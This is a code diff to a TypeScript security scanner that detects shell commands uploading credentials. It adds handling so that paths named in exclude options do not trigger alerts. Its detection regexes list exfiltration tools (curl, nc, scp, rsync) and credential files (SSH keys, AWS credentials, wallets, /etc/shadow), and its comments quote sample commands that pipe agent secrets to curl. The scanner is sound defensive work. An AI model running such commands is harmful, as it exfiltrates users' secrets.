@@ -218,13 +218,13 @@ export function analyzeShell(text: string, sink: SignalSink, lineAt: (offset: nu
     // Values of variables can be joined (`+=`) into words the text does not hold: a resolved line is always tested.
     const up = gate.upload || rcmd !== cmd ? UPLOAD_COMMAND.exec(rcmd) : null;
     // The credential must be an argument of the upload command itself, not a word later in the sentence.
-    if (up && SECRET_FILE.test(rcmd.slice(up.index).split(/[;&|`]|\.\s|\s#/)[0])) sink.add('shell.secret-upload', line, cmd);
+    if (up && SECRET_FILE.test(rcmd.slice(up.index).split(/[;&|`]|\.\s|\s#/)[0].replace(EXCLUDED, ' '))) sink.add('shell.secret-upload', line, cmd);
     // `tok=$(jq -r .token ~/.openclaw/openclaw.json)` earlier, `curl "https://x/?t=$tok"` here: an agent secret sent off the machine.
     else if (secretVars.size > 0 && NET_SEND.test(cmd) && !/\b(?:localhost|127\.0\.0\.1|\[::1\])\b/.test(cmd) && sendsSecretVar(cmd, secretVars)) sink.add('shell.secret-upload', line, cmd);
     // `tar czf - ~/.openclaw/credentials | curl -F f=@- …`: secrets read by one stage, sent by the next from stdin.
     else if (up && up.index > 0 && STDIN_UPLOAD.test(rcmd.slice(up.index).split(/[;&`]/)[0])) {
       const pipeline = rcmd.slice(0, up.index).split(/;|&&|\|\|/).pop() ?? '';
-      if (/\|\s*$/.test(pipeline) && SECRET_FILE.test(pipeline)) sink.add('shell.secret-upload', line, cmd);
+      if (/\|\s*$/.test(pipeline) && SECRET_FILE.test(pipeline.replace(EXCLUDED, ' '))) sink.add('shell.secret-upload', line, cmd);
     }
     if (downloads && DOWNLOAD_EXTRACT.test(cmd)) extractThenRun(cmd, sink, line, resolveVars(cmd, vars));
     if (AUTHORIZED_KEYS_NEEDLE.test(cmd) && AUTHORIZED_KEYS_WRITE.test(cmd)) sink.add('shell.authorized-keys-write', line, cmd);
@@ -300,6 +300,9 @@ function extractThenRun(cmd: string, sink: SignalSink, line: number, resolved: s
 const UPLOAD_COMMAND = /\bgh\s+(?:gist|issue|pr|release|api)\b|\b(?:curl|wget|nc|ncat|http|https|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b(?=[^\n]*\$\(\s*(?:cat|type|Get-Content|base64|tar|zip|xxd|head)\b)|\bcurl\b[^\n|;]*?\s(?:-F|--form|-T|--upload-file|--data-binary|-d|--data(?:-raw|-urlencode)?)\s+["']?[\w-]*=?@|\bwget\b[^\n]*--post-file|\bscp\b[^\n]*\s[\w.-]+@[\w.-]+:|\bscp\b[^\n]*\s(?:\d{1,3}\.){3}\d{1,3}:|\brsync\b[^\n]*\s\S+:\S*|\b(?:aws\s+s3\s+cp|gsutil\s+cp|rclone\s+(?:copy|sync))\b|\bnc\s+\S+\s+\d+\s*<|\bInvoke-(?:WebRequest|RestMethod)\b[^\n]*-InFile|\bpastebinit\b|\bgit\s+push\b/i;
 /** Credential files and stores (not public keys). */
 const SECRET_FILE = /(?:~|\$HOME|\$\{HOME\})\/\.(?:openclaw|clawdbot|ssh|aws|gnupg|kube|config\/gh)\/?\*?(?=[\s"']|$)|(?:\.openclaw|\.clawdbot)[\\/][^\s"']*(?:openclaw\.json|credentials|auth-profiles|sessions)|\b(?:openclaw|clawdbot)\.json\b|auth-profiles\.json|\.ssh[\\/](?:id_\w*\*?(?!\.pub)|\*)|\bid_(?:rsa|ed25519|ecdsa)(?!\.pub)\b|\.aws[\\/]credentials|\.npmrc\b|\.git-credentials|\.env\b|\.kube[\\/]config|\.docker[\\/]config\.json|wallet\.dat|keystore|\.config[\\/]gcloud|login\.keychain|Login\s+Data|cookies\.sqlite|\/etc\/shadow/i;
+
+/** What an upload leaves out (`rsync --exclude=.env`, `tar --exclude .ssh`, `zip -x '*.env'`): not what it sends. */
+const EXCLUDED = /\s(?:--exclude(?:-from)?(?:=|\s+)|-x\s+)(?:"[^"]*"|'[^']*'|\S+)/g;
 
 /** `name=$(… file …)` / ``name=`…` ``: a variable filled from a command that reads a file. */
 const SECRET_ASSIGNMENT = /(?:^|[\s;&|(])(?:export\s+|local\s+)?([A-Za-z_]\w{0,30})=["']?(?:\$\(([^)\n]{1,300})\)|`([^`\n]{1,300})`)/g;
